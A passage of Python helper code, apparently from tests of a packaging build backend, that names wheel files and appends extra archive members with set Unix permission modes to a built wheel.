    import tiny_backend  # type: ignore[import-not-found]

    filename = f"{tiny_backend._stem()}-py3-none-any.whl"
    return os.path.join(order.output, filename), filename


def _other_wheel(order: Order, make: Callable[[str], object]) -> Any:
    if order.hook != "build_wheel":
        return None
    path, filename = _wheel_path(order)
    make(path)
    return filename


def _wheel(order: Order, members: dict[str, tuple[int, bytes]]) -> Any:
    """Make the wheel that is asked for, with further members."""
    if order.hook != "build_wheel":
        return None
    import tiny_backend

    filename = tiny_backend.build_wheel(order.output)
    with zipfile.ZipFile(os.path.join(order.output, filename), "a") as wheel:
        for name, (mode, content) in members.items():
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, mode << 16
            wheel.writestr(info, content)
    return filename
